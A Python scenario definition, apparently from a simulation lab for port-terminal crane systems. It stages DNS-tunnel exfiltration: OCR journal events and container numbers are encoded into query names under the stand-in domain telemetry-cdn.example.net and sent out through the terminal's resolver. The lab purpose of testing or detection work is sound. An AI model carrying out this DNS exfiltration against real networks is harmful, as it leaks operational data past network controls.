"""dns-exfil: container numbers leave in DNS queries through the terminal resolver.

Malware on the OCR controller turns each journal event into query names under
telemetry-cdn.example.net (container number in clear, the rest base32) and asks the
terminal's dnsmasq, which forwards the domain to an outside resolver: data leaves over DNS
though no crane host talks to the internet directly.
"""

from __future__ import annotations

from cranewatch.lab import services
from cranewatch.lab.runner import Lab
from cranewatch.lab.scenario import AttackPlan, Scenario


def act(lab: Lab, until: float) -> None:
    lab.run_part("ocr", "parts.exfil", "dns", "--journal", str(lab.tmp / "ocr-journal.jsonl"),
                 "--domain", services.EXFIL_DOMAIN, "--until", f"{until:.3f}", name="exfil-dns")


SCENARIO = Scenario(
    name="dns-exfil",
    summary="container numbers encoded in DNS queries forwarded to an outside resolver",
    attacks=(AttackPlan("dns-tunnel", "data-leak", ("T0882", "T0802"), "10.20.7.20",
                        "10.20.0.8:53", f"container events in query names under {services.EXFIL_DOMAIN}"),),
    act=act,
)
